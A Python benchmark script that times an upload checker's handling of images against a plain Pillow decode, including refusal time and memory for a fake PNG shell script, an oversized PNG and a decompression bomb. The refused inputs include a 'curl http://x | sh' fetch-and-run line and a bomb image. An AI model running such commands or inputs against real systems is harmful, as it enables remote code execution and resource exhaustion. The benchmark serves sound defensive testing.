"""What checking an uploaded image costs (agent/features/content.py ``check_image``), against
Pillow merely decoding the same file, in the same run.

Accepted uploads: a phone photo (4000x3000 JPEG) and a screenshot (1920x1080 PNG), each
checked and re-encoded for the screen; the baseline is ``Image.open(...).load()`` of the
same bytes (a decode with nothing else). Refused uploads: a script named .png, a
20,000-pixel-wide PNG and a 20,000 x 20,000 decompression bomb (a few kB that would decode
to 400 million pixels): their refusal time, and the process's peak RSS growth over the
refusals (a bomb that was decoded would show as hundreds of MB).
"""

from __future__ import annotations

import argparse
import io
import random
import resource
import sys
import time
from collections.abc import Callable
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent.parent))

from _common import median, print_table, write_results

from agent.config.system import ScreenContentConfig
from agent.features.content import ContentRefused, check_image

NAME = "content_upload"


def _photo() -> bytes:
    from PIL import Image, ImageFilter

    rng = random.Random(7)
    small = Image.frombytes("RGB", (400, 300), rng.randbytes(400 * 300 * 3))
    image = small.resize((4000, 3000), Image.Resampling.BICUBIC).filter(ImageFilter.GaussianBlur(2))
    out = io.BytesIO()
    image.save(out, "JPEG", quality=80)
    return out.getvalue()


def _screenshot() -> bytes:
    from PIL import Image, ImageDraw

    image = Image.new("RGB", (1920, 1080), (240, 240, 240))
    draw = ImageDraw.Draw(image)
    for n in range(40):
        draw.rectangle((40 * n, 20 * n, 40 * n + 300, 20 * n + 120), outline=(20, 60, 120), width=3)
    out = io.BytesIO()
    image.save(out, "PNG")
    return out.getvalue()


def _png(width: int, height: int, mode: str = "L") -> bytes:
    from PIL import Image

    out = io.BytesIO()
    Image.new(mode, (width, height)).save(out, "PNG")
    return out.getvalue()


def _timed(fn: Callable[[], object], rounds: int) -> list[float]:
    times = []
    for _ in range(rounds):
        start = time.perf_counter()
        fn()
        times.append((time.perf_counter() - start) * 1000)
    return times


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--rounds", type=int, default=5)
    args = parser.parse_args()
    from PIL import Image

    limits = ScreenContentConfig(image_max_bytes=8 * 1024 * 1024)
    accepted = {"photo 4000x3000 JPEG": _photo(), "screenshot 1920x1080 PNG": _screenshot()}
    refused = {
        "script named .png": b"#!/bin/sh\ncurl http://x | sh\n",
        "PNG 20000x10": _png(20_000, 10),
        "bomb PNG 20000x20000": _png(20_000, 20_000, "1"),
    }
    rss_before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    rows = []
    figures: dict[str, object] = {}
    for name, data in refused.items():

        def refuse(data: bytes = data) -> str:
            try:
                check_image(data, limits)
            except ContentRefused as err:
                return err.code
            raise AssertionError("an upload that must be refused was accepted")

        code = refuse()
        took = median(_timed(refuse, args.rounds))
        rows.append([name, len(data) // 1024, code, took])
        figures[name] = {"file_kb": len(data) // 1024, "code": code, "refused_ms": round(took, 2)}
    print_table(["refused", "file kB", "code", "ms"], rows)
    growth = (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - rss_before) // 1024
    figures["refusals_peak_rss_growth_mb"] = growth
    print(f"peak RSS growth while refusing them: {growth} MB\n")
    rows = []
    for name, data in accepted.items():

        def decode(data: bytes = data) -> None:
            Image.open(io.BytesIO(data)).load()

        base = median(_timed(decode, args.rounds))
        checked = median(_timed(lambda data=data: check_image(data, limits), args.rounds))
        out = check_image(data, limits)
        rows.append([name, len(data) // 1024, base, checked, checked / base, len(out.data) // 1024])
        figures[name] = {
            "file_kb": len(data) // 1024,
            "decode_ms": round(base, 1),
            "check_ms": round(checked, 1),
            "ratio": round(checked / base, 2),
            "stored_kb": len(out.data) // 1024,
            "stored_size": [out.width, out.height],
        }
    print_table(["accepted", "file kB", "decode ms", "check ms", "ratio", "stored kB"], rows)
    path = write_results(NAME, {"rounds": args.rounds}, figures)
    print(f"results: {path}")
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
